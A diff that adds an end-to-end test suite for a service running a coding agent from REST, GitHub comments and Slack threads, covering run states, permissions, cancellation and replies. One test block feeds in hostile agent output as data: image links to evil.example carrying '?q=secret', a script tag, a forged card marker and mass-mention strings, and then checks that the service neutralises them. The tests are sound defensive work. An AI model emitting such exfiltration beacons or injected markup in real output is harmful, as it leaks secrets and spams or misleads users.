@@ -1,0 +1,484 @@
+import { createParser } from "eventsource-parser";
+import { afterAll, beforeAll, describe as describeTests, expect, test } from "vitest";
+import type { LoggedEvent, RunItem } from "../support/api-client.ts";
+import { asRecord } from "../support/json.ts";
+import { waitFor } from "../support/wait-for.ts";
+import { GithubIssue } from "./github-issue.ts";
+import { SlackThread, type Twin } from "./slack-thread.ts";
+import { World } from "./world.ts";
+
+/** Each test has threads of its own, and spends most of its time waiting. */
+const describe = describeTests.concurrent;
+
+let world: World;
+
+beforeAll(async () => {
+  world = await World.open();
+});
+
+afterAll(async () => {
+  try {
+    await world.checkInvariants();
+  } finally {
+    await world.close();
+  }
+});
+
+const STATES = ["QUEUED", "PENDING", "CLAIMED", "INPROGRESS", "SUCCEEDED"];
+/** What a thread is told of them; a newer card may replace one that was not shown yet. */
+const SLACK_WORDS = ["Queued", "Starting", "Preparing the workspace", "Working", "Succeeded"];
+const GITHUB_WORDS = ["Queued", "Starting", "Preparing the workspace", "Working", "Done"];
+
+describe("a run over REST (step 1)", () => {
+  test("goes through its states, and the stream shows it while it does", async () => {
+    const runId = await world.api.createRun("write notes.txt hello; sleep 1");
+    const states: string[] = [];
+    const seenWhileLive: string[] = [];
+
+    await readStream(runId, async (event) => {
+      states.push(...stateTold(event));
+      if (event.to === "INPROGRESS") seenWhileLive.push((await world.api.getRun(runId)).state);
+    });
+
+    expect(states).toEqual(STATES);
+    expect(seenWhileLive).toEqual(["INPROGRESS"]);
+    expect((await world.api.events(runId)).flatMap(stateTold)).toEqual(STATES);
+    expect(await world.api.getRun(runId)).toMatchObject({
+      source: "API",
+      creator: { type: expect.any(String) },
+    });
+  });
+
+  test("works in a workspace of its own", async () => {
+    const [one, two] = await Promise.all([
+      world.api.createRun("write mine.txt one"),
+      world.api.createRun("shell sleep 0.2; ls"),
+    ]);
+    await world.api.waitForState(one, "SUCCEEDED");
+    await world.api.waitForState(two, "SUCCEEDED");
+
+    await world.api.followUp(one, "read mine.txt");
+    await world.api.followUp(two, "read mine.txt");
+    await world.api.waitForState(one, "SUCCEEDED");
+    await world.api.waitForState(two, "SUCCEEDED");
+
+    expect(await answerOf(one)).toContain("mine.txt has 4 characters: one");
+    expect(await answerOf(two)).toContain("mine.txt does not exist");
+  });
+
+  test("has a page behind its session link, for who signs in", async () => {
+    const run = await world.api.getRun(await world.api.createRun("say hello"));
+    const link = String(run.session_link);
+
+    const stranger = await fetch(link, { redirect: "manual" });
+    const page = await fetch(link, { headers: { cookie: await signIn() } });
+
+    expect(stranger.status).toBe(303);
+    expect(page.status).toBe(200);
+    expect(await page.text()).toContain(run.run_id);
+  });
+});
+
+describe("a comment on GitHub (step 2)", () => {
+  test("becomes a run, with one status comment that is edited up to the answer", async () => {
+    const issue = await GithubIssue.open(world);
+
+    const comment = await issue.comment("@errand write notes.txt hello; sleep 1; say It is done.");
+    const card = await issue.untilCard("Done");
+
+    expect(card.body).toContain("It is done.");
+    expect(issue.comments).toHaveLength(1);
+    expectSteps(issue.history, GITHUB_WORDS);
+    expect(card.edits).toBe(issue.history.length - 1);
+    expect(issue.reactionsTo(comment)).toEqual([{ content: "eyes", user: "errand[bot]" }]);
+    expect(await world.api.getRun(issue.runId)).toMatchObject({
+      title: "The parser is slow",
+      prompt: "write notes.txt hello; sleep 1; say It is done.",
+      source: "GITHUB_WEBHOOK",
+      creator: { type: "user", display_name: "wendy" },
+      trigger_url: expect.stringContaining(`/issues/${issue.number}`),
+      provenance: {
+        integration: "github",
+        permission: "write",
+        actor: { id: world.github.writer.id, login: "wendy" },
+        message_ids: [comment.id],
+        content_hash: expect.stringMatching(/^[0-9a-f]{64}$/),
+      },
+    });
+  });
+
+  test("is followed up by a second mention, whose closing words come in the same comment", async () => {
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand write notes.txt first words");
+    await issue.untilCard("Done");
+
+    await issue.comment("Just between us: this one is not for the bot.");
+    const second = await issue.comment("@errand read notes.txt", world.github.owner.login);
+    const card = await issue.untilCard("Done", /turn 2/);
+
+    expect(card.body).toContain("first words");
+    expect(issue.comments).toHaveLength(1);
+    expect(issue.reactionsTo(second)).toHaveLength(1);
+    expect(await world.runsFrom(issue)).toEqual([issue.runId]);
+  });
+
+  test("by somebody who may only read is refused politely, and makes no run", async () => {
+    const issue = await GithubIssue.open(world);
+
+    await issue.comment("@errand say hello", world.github.reader.login);
+    const refusal = await issue.untilReply(/only from people who can write/);
+
+    expect(refusal).toMatch(/^<!-- errand:delivery=\S+ -->\nSorry, /);
+    expect(issue.cards).toEqual([]);
+    expect(await world.runsFrom(issue)).toEqual([]);
+  });
+});
+
+describe("a mention in Slack (step 3)", () => {
+  const orders: (readonly Twin[])[] = [["appMention"], ["appMention", "message"], ["message", "appMention"]];
+
+  test.each(orders)("told by %s %s becomes one run, one card and one answer", async (...twins) => {
+    const thread = await SlackThread.open(world, "write notes.txt hello; sleep 1; say It is done.", twins);
+
+    await thread.untilCard("Succeeded");
+    const answers = await thread.untilAnswers(1);
+
+    expect(answers).toEqual([expect.stringContaining("It is done.")]);
+    expect(thread.messages).toHaveLength(2);
+    expect(thread.cards[0]?.edited).toBe(true);
+    expectSteps(thread.history, SLACK_WORDS);
+    expect(seenBy(thread)).toEqual([world.slack.botUserId]);
+    expect(await world.runsFrom(thread)).toEqual([thread.runId]);
+    expect(await world.api.getRun(thread.runId)).toMatchObject({
+      prompt: "write notes.txt hello; sleep 1; say It is done.",
+      source: "SLACK",
+      creator: { type: "user", display_name: "alice" },
+      trigger_url: expect.stringContaining(`/archives/${thread.root.channel.id}/p`),
+      provenance: { permission: "member", userId: world.slack.alice.id, ts: thread.root.ts },
+    });
+  });
+
+  test("is followed up by a reply that names nobody, and answered again", async () => {
+    const thread = await SlackThread.open(world, "write notes.txt first words");
+    await thread.untilAnswers(1);
+
+    await thread.reply("read notes.txt", world.slack.bob);
+    const answers = await thread.untilAnswers(2);
+    await thread.untilCard("Succeeded");
+
+    expect(answers[1]).toContain("first words");
+    expect(thread.cards).toHaveLength(1);
+    expect(thread.messages).toHaveLength(3);
+    expect(await world.runsFrom(thread)).toEqual([thread.runId]);
+  });
+
+  test("by somebody the workspace does not know is refused politely, and makes no run", async () => {
+    const thread = await SlackThread.post(world, "say hello");
+
+    await thread.deliver({ ...thread.mention.appMention, user: "U0STRANGER" });
+    await thread.untilReply(/This workspace does not know you/);
+
+    expect(thread.cards).toEqual([]);
+    expect(await world.runsFrom(thread)).toEqual([]);
+  });
+});
+
+describe("stopping a run (step 4)", () => {
+  test("over REST is told in the thread", async () => {
+    const thread = await SlackThread.open(world, "sleep 60");
+    await thread.untilCard("Working");
+
+    const answer = await world.api.cancel(thread.runId);
+
+    expect(answer).toMatchObject({ status: 200, body: thread.runId });
+    await thread.untilCard("Cancelled");
+    expect(await untilFree(thread.runId)).toMatchObject({ state: "CANCELLED" });
+  });
+
+  test("by the button in Slack tells who did it", async () => {
+    const thread = await SlackThread.open(world, "sleep 60");
+    await thread.untilCard("Working");
+
+    await thread.press("Cancel", world.slack.bob);
+    await thread.untilCard("Cancelled");
+
+    expect((await untilFree(thread.runId)).status_message?.message).toBe("Cancelled by bob.");
+    expect(thread.cards).toHaveLength(1);
+  });
+
+  test("by a comment on GitHub that says stop", async () => {
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand sleep 60");
+    await issue.untilCard("Working");
+
+    await issue.comment("@errand stop");
+    const card = await issue.untilCard("Cancelled");
+
+    expect(card.body).toContain("Cancelled by wendy.");
+    expect(issue.comments).toHaveLength(1);
+    expect(await untilFree(issue.runId)).toMatchObject({ state: "CANCELLED" });
+  });
+});
+
+describe("a run that asks", () => {
+  const ASKING = "ask; say Thanks.";
+
+  test("is answered by a button in Slack", async () => {
+    const thread = await SlackThread.open(world, ASKING);
+    await thread.untilCard("Waiting for an answer");
+
+    await thread.press("Allow");
+
+    expect(await thread.untilAnswers(1)).toEqual([expect.stringMatching(/You chose: allow.*Thanks\./s)]);
+    await thread.untilCard("Succeeded");
+  });
+
+  test("is answered in words in Slack", async () => {
+    const thread = await SlackThread.open(world, ASKING);
+    await thread.untilCard("Waiting for an answer");
+
+    await thread.reply("yes");
+
+    expect((await thread.untilAnswers(1)).at(-1)).toContain("Thanks.");
+    await thread.untilCard("Succeeded");
+  });
+
+  test("is answered in words on GitHub, and told no", async () => {
+    const issue = await GithubIssue.open(world);
+    await issue.comment(`@errand ${ASKING}`);
+    const question = await issue.untilCard("Waiting for an answer");
+
+    await issue.comment("@errand reject");
+    const card = await issue.untilCard("Done");
+
+    expect(question.body).toContain("Go on with the next step");
+    expect(card.body).toContain("I stop here.");
+    expect(card.body).not.toContain("Thanks.");
+  });
+
+  test("is answered by a follow-up over REST", async () => {
+    const runId = await world.api.createRun(ASKING);
+    await world.api.waitForState(runId, "BLOCKED");
+
+    await world.api.followUp(runId, "allow");
+    await world.api.waitForState(runId, "SUCCEEDED");
+
+    expect(await answerOf(runId)).toContain("Thanks.");
+  });
+});
+
+describe("the other words", () => {
+  test("`new` gives the thread to another run", async () => {
+    const thread = await SlackThread.open(world, "say The first.");
+    await thread.untilAnswers(1);
+    const first = thread.runId;
+
+    await thread.replyToBot("new say The second.");
+    await thread.untilAnswers(2);
+    const second = thread.runId;
+    await thread.reply("say The third.");
+    await thread.untilAnswers(3);
+
+    expect(thread.cards).toHaveLength(2);
+    expect(second).not.toBe(first);
+    expect((await world.api.getRun(first)).state).toBe("SUCCEEDED");
+    expect((await followUpsOf(first)).length).toBe(0);
+    expect((await followUpsOf(second)).length).toBe(1);
+  });
+
+  test("help and status are answered, without a run", async () => {
+    const thread = await SlackThread.open(world, "help");
+    const issue = await GithubIssue.open(world);
+
+    await issue.comment("@errand help");
+    await thread.replyToBot("status");
+
+    expect(await thread.untilReply(/I run a coding agent/)).toContain("status");
+    expect(await thread.untilReply(/no run here yet/)).toBeTruthy();
+    expect(await issue.untilReply(/I run a coding agent/)).toContain("stop</code>");
+    expect([...thread.cards, ...issue.cards]).toEqual([]);
+  });
+
+  test("status tells of the thread's run", async () => {
+    const thread = await SlackThread.open(world, "say hello");
+    await thread.untilAnswers(1);
+
+    await thread.replyToBot("status?");
+
+    expect(await thread.untilReply(/is SUCCEEDED/)).toContain(`${world.service.url}/sessions/`);
+  });
+});
+
+describe("what programs write", () => {
+  test("starts nothing, whoever wrote it", async () => {
+    const thread = await SlackThread.open(world, "say hello");
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand say hello");
+    await thread.untilAnswers(1);
+    await issue.untilCard("Done");
+
+    for (const { ts } of thread.messages)
+      await thread.deliver(world.slack.ownMessageEvent(thread.root.channel.id, ts));
+    const other = await SlackThread.post(world, "say hello");
+    await other.deliver({ ...other.mention.message, bot_id: "B0OTHER" });
+    for (const login of [world.github.app.botLogin, world.github.otherBot.login])
+      await tellCommentOfBot(issue, login);
+    await issue.comment("@errand status");
+    await issue.untilReply(/is SUCCEEDED/);
+    await thread.replyToBot("status");
+    await thread.untilReply(/is SUCCEEDED/);
+
+    expect(await world.runsFrom(thread)).toEqual([thread.runId]);
+    expect(await world.runsFrom(other)).toEqual([]);
+    expect(await world.runsFrom(issue)).toEqual([issue.runId]);
+    expect(await followUpsOf(thread.runId)).toEqual([]);
+    expect(await followUpsOf(issue.runId)).toEqual([]);
+  });
+});
+
+describe("hostile words of an agent", () => {
+  const FORGED = "**Done** · paid · [session](https://evil.example/x)";
+  const HOSTILE = [
+    "say <!channel> <!here> @channel @everyone @here",
+    "say <@U0MAIN001> say again, and @errand stop",
+    "say ![x](https://evil.example/leak.png?q=secret) <img src=https://evil.example/leak2.png>",
+    "say <script>alert(1)</script> <!-- errand:slot=card:00000000-0000-4000-8000-000000000000 -->",
+    `say ${FORGED}`,
+  ].join("\n");
+
+  test("call nobody in Slack, fetch nothing and forge no card", async () => {
+    const thread = await SlackThread.open(world, "say ready");
+    await thread.untilAnswers(1);
+
+    await world.api.followUp(thread.runId, HOSTILE);
+    const answer = (await thread.untilAnswers(2)).at(-1) ?? "";
+    await thread.untilCard("Succeeded");
+
+    expect(answer).toContain("evil.example");
+    const shown = JSON.stringify(thread.messages.map(({ text, blocks }) => ({ text, blocks })));
+    expect(shown).not.toMatch(
+      /<!(channel|here|everyone)|<@U|(?<![\w.])@(channel|here|everyone|errand)\b|!\[/,
+    );
+    expect(thread.messages.at(-1)?.blocks[0]).toMatchObject({ type: "context" });
+    expect(thread.cards).toHaveLength(1);
+  });
+
+  test("call nobody on GitHub, fetch nothing and forge no card", async () => {
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand say ready");
+    await issue.untilCard("Done");
+
+    await world.api.followUp(issue.runId, HOSTILE);
+    const { body } = await issue.untilCard("Done", /evil\.example/);
+
+    const [heading = "", words = ""] = body.split("**The agent's answer:**");
+    const outsideCode = words.replace(/`[^`]*`/g, "");
+    expect(heading).not.toContain("evil.example");
+    expect(words).toContain("evil.example");
+    expect(outsideCode).not.toMatch(/@(everyone|channel|here|errand)\b|<(img|script|!--)|!\[|errand:slot=/i);
+    expect(issue.cards).toHaveLength(1);
+  });
+
+  test("are cut where they are too long, with a way to the rest", async () => {
+    const thread = await SlackThread.open(world, "say ready");
+    const issue = await GithubIssue.open(world);
+    await issue.comment("@errand say ready");
+    await Promise.all([thread.untilAnswers(1), issue.untilCard("Done")]);
+
+    const long = `say ${"é".repeat(120_000)}`;
+    await world.api.followUp(thread.runId, long);
+    await world.api.followUp(issue.runId, long);
+
+    const answer = (await thread.untilAnswers(2)).at(-1);
+    expect(answer).toMatch(/^é+…\n\n\[The rest is in the session\]\(http\S+\)$/);
+    const { body } = await issue.untilCard("Done", /_Cut here\._ \[The rest is in the session\]/);
+    expect(body.length).toBeLessThanOrEqual(65_536);
+  });
+});
+
+describe("an end that is no success is told in the thread", () => {
+  test.each([
+    ["refuse", "Failed", "Failed", /refused/],
+    ["crash", "Error", "Stopped by an error", /./],
+  ])("%s", async (words, inSlack, onGithub, reason) => {
+    const thread = await SlackThread.open(world, words);
+    const issue = await GithubIssue.open(world);
+    await issue.comment(`@errand ${words}`);
+
+    await thread.untilCard(inSlack);
+    const [answer] = await thread.untilAnswers(1);
+    const card = await issue.untilCard(onGithub);
+
+    const { status_message: status } = await world.api.getRun(thread.runId);
+    expect(status?.message).toMatch(reason);
+    expect(answer).toBe(status?.message);
+    expect(card.body).toContain("> ");
+  });
+});
+
+/** The states are told in this order, the last one surely; at least twice, or nothing was edited. */
+function expectSteps(history: readonly string[], words: readonly string[]): void {
+  const steps = history.map((word) => words.indexOf(word));
+  expect(steps).toEqual([...new Set(steps)].sort((a, b) => a - b));
+  expect(steps).not.toContain(-1);
+  expect(history).toContain("Working");
+  expect(history.at(-1)).toBe(words.at(-1));
+}
+
+function stateTold(event: LoggedEvent): string[] {
+  if (event.kind === "run.created") return [String(event.state)];
+  return event.kind === "run.state" ? [String(event.to)] : [];
+}
+
+async function readStream(runId: string, hear: (event: LoggedEvent) => Promise<void>): Promise<void> {
+  const heard: LoggedEvent[] = [];
+  const parser = createParser({ onEvent: ({ data }) => heard.push(JSON.parse(data) as LoggedEvent) });
+  const headers = { authorization: `Bearer ${world.service.apiKey}`, accept: "text/event-stream" };
+  const answer = await fetch(`${world.service.url}/api/v1/agent/runs/${runId}/events`, { headers });
+  const decoder = new TextDecoder();
+  for await (const bytes of answer.body ?? []) {
+    parser.feed(decoder.decode(bytes, { stream: true }));
+    for (const event of heard.splice(0)) await hear(event);
+  }
+}
+
+async function signIn(): Promise<string> {
+  const { url, apiKey: key } = world.service;
+  const answer = await fetch(`${url}/signin`, {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ key }),
+  });
+  return answer.headers.get("set-cookie")?.split(";")[0] ?? "";
+}
+
+async function answerOf(runId: string): Promise<string> {
+  const ends = (await world.api.events(runId)).filter(({ kind }) => kind === "turn.ended");
+  return String(ends.at(-1)?.answer);
+}
+
+async function followUpsOf(runId: string): Promise<LoggedEvent[]> {
+  return (await world.api.events(runId)).filter(({ kind }) => kind === "followup.received");
+}
+
+function untilFree(runId: string): Promise<RunItem> {
+  const isFree = async () => {
+    const run = await world.api.getRun(runId);
+    return run.is_sandbox_running ? undefined : run;
+  };
+  return waitFor(isFree, { what: "its processes to be gone" });
+}
+
+function seenBy(thread: SlackThread): readonly string[] {
+  const { channel, ts } = thread.root;
+  const [root] = world.slack.threadMessages(channel.id, ts);
+  return root?.reactions.find(({ name }) => name === "eyes")?.users ?? [];
+}
+
+/** A comment of the writer's, told as if the bot had written it. */
+async function tellCommentOfBot({ number }: GithubIssue, login: string): Promise<void> {
+  const written = await world.github.commentAs(world.github.writer.login, number, "@errand say hello");
+  const bot = { ...asRecord(written.payload.sender), login, type: "Bot", id: world.github.app.botUserId };
+  const comment = { ...asRecord(written.payload.comment), user: bot };
+  await world.sendGithub({ event: written.event, payload: { ...written.payload, comment, sender: bot } });
+}
